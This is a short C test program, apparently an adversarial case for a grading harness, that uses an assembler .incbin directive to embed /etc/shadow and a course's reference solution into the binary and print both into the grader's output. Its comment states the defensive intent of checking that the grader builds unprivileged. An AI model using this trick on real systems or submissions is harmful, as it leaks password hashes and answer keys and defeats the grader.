/*
 * Attack 04 (.incbin): the assembler copies any file it can read into the program. Built as
 * root, that is /etc/shadow; anywhere, the reference solution (the runner writes the repo's
 * path in place of @REPO@; the "try:" lines of a report show it). At run time the program
 * prints both: stdout and stderr end up in the transcripts and, through the diff and the
 * failure messages, in the report. The grader must build unprivileged where neither file can be
 * read (the build then fails, which is fine) and never show either file's lines.
 * (By design this only assembles where both files exist and can be read.)
 */
#include <stdio.h>

__asm__(".pushsection .rodata\n"
	".globl stolen_shadow\n"
	"stolen_shadow:\n"
	".incbin \"/etc/shadow\"\n"
	".byte 0\n"
	".globl stolen_solution\n"
	"stolen_solution:\n"
	".incbin \"@REPO@/solutions/01-two-children/msgpair.c\"\n"
	".byte 0\n"
	".popsection\n");

extern const char stolen_shadow[], stolen_solution[];

int main(void)
{
	fputs(stolen_shadow, stderr);
	fputs(stolen_shadow, stdout);
	fputs(stolen_solution, stdout);
	return 1;
}
